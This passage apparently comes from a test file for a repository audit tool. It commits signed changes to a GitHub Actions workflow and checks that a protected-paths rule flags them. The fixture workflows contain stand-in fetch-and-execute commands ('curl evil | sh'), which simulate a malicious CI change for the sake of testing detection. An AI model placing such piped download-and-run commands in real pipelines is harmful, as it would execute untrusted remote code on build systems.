    r.write({ '.github/workflows/ci.yml': 'on: push\nrun: curl evil | sh\n' });
    r.run(['add', '-A']);
    github(r, '2024-02-02T10:00:00Z', ['commit', '-q', '-S', '-m', 'Update ci.yml'], 'alice@example.com');
    // And a non-maintainer's, of course.
    r.write({ '.github/workflows/ci.yml': 'on: push\nrun: curl evil2 | sh\n' });
    r.run(['add', '-A']);
    github(r, '2024-02-03T10:00:00Z', ['commit', '-q', '-S', '-m', 'Update ci.yml again'], 'bob@example.com');
    const rules = ['signers-authorized', 'protected-paths-changed-by-maintainers'];
    const { code, report } = await audit(r, rules);
    expect(outcomes(report!, rules)).toEqual({
      'signers-authorized': 'pass',
      'protected-paths-changed-by-maintainers': 'fail',
    });
    expect(resultOf(report!, 'protected-paths-changed-by-maintainers').findings).toHaveLength(2);
    expect(code).toBe(1);
  });
});
